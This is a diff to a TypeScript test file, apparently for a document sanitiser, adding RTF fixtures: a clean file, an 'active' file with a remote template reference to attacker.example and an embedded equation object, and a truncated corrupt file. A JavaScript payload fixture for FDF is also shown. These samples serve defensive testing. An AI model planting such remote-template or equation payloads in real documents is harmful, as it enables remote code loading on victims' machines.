@@ -5,6 +5,8 @@ import {
   buildFdf,
   buildOdt,
   buildOfficeDocument,
+  buildRtf,
+  equationObject,
   buildTextPdf,
   buildZip,
   OOXML_MAIN_TYPES,
@@ -104,6 +106,24 @@ const CASES: Readonly<Record<string, FormatCases>> = {
     active: () => buildFdf({ fdf: `/JavaScript << /Before (app.alert\\('${PAYLOAD}'\\)) >>` }),
     corrupt: truncate(() => buildFdf()),
   },
+  rtf: {
+    clean: () => buildRtf(),
+    active: () =>
+      buildRtf({
+        header: `{\\*\\template http://attacker.example/${PAYLOAD}.dotm}`,
+        body: equationObject({ result: 'x' }),
+      }),
+    // Cut inside a \bin run: the run's length passes the end of the file.
+    corrupt: async () => {
+      const png = await buildImage('png', { width: 48, height: 48 });
+      const rtf = Buffer.concat([
+        Buffer.from(`{\\rtf1\\ansi{\\pict\\pngblip\\bin${png.length} `, 'latin1'),
+        png,
+        Buffer.from('}}', 'latin1'),
+      ]);
+      return rtf.subarray(0, rtf.length - png.length / 2);
+    },
+  },
   gz: {
     clean: async () => buildGzip(await buildImage('png'), { fileName: 'a.png' }),
     active: async () =>
@@ -118,7 +138,7 @@ const CASES: Readonly<Record<string, FormatCases>> = {
 };
 
 /** Families whose rebuild has not shipped: they must fail as a fault, never pass a file through. */
-const NOT_YET_REBUILT: ReadonlySet<FormatFamily> = new Set(['cfb', 'rtf', 'markup']);
+const NOT_YET_REBUILT: ReadonlySet<FormatFamily> = new Set(['cfb', 'markup']);
 
 /** Formats of rebuilt families that still fail closed: ods/odp conversion. */
 const NOT_YET_REBUILT_FORMATS: ReadonlySet<SupportedExtension> = new Set(['ods', 'odp']);
